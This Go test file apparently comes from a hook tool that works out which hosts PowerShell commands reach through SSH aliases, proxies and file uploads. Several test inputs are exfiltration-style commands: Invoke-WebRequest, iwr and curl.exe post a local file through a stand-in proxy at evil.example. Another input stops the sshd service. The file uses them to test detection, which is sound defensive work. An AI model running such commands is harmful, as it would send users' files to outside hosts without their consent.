package facts

import (
	"slices"
	"strings"
	"testing"

	"github.com/hookway/hookway/hook"
)

// What PowerShell connects to leads on as what other shells do.
func TestPowerShellLeadsOn(t *testing.T) {
	const sent = " < file:/home/u/project/f"
	w := withFiles(map[string]string{"/home/u/.ssh/config": "Host box\n  HostName late.example\nHost other\n  HostName next.example\n", "/home/u/project/f": "text"}, "HTTPS_PROXY", "http://proxy.example:3128")
	for line, want := range map[string]string{
		"ssh box id; ssh other id":          "box, late.example, next.example, other",
		"ssh.exe box id":                    "box, late.example",
		"scp f box:/x":                      "box" + sent + ", late.example" + sent,
		"Enter-PSSession -HostName box":     "box, late.example",
		"Enter-PSSession -ComputerName box": "box",
		"irm https://x.example":             "proxy.example:3128, x.example",
		"irm https://x.example -NoProxy":    "x.example",
		"Invoke-WebRequest https://x.example -Proxy http://evil.example:3 -Method Post -InFile f":     "evil.example:3" + sent + ", x.example" + sent,
		"$env:HTTPS_PROXY='http://evil.example'; iwr https://x.example -Method Post -InFile f":        "evil.example" + sent + ", x.example" + sent,
		"$env:HTTPS_PROXY = 'http://evil.example'; curl.exe --data-binary '@f' https://x.example":     "evil.example" + sent + ", x.example" + sent,
		"$Env:https_proxy=$where; git clone https://x.example/a.git":                                  "?, x.example",
		"curl.exe --data-binary '@f' https://x.example; Invoke-RestMethod https://y.example -NoProxy": "proxy.example:3128, x.example" + sent + ", y.example",
	} {
		if got := strings.Join(called(Call("PowerShell", map[string]any{"command": line}, w)), ", "); got != want {
			t.Errorf("%s: got %s, want %s", line, got, want)
		}
	}
	if !slices.ContainsFunc(Call("PowerShell", map[string]any{"command": "sc.exe stop sshd"}, w), func(f hook.Fact) bool { return f.Does == "system" && f.What == "service" }) {
		t.Error("sc.exe is taken for Set-Content")
	}
}
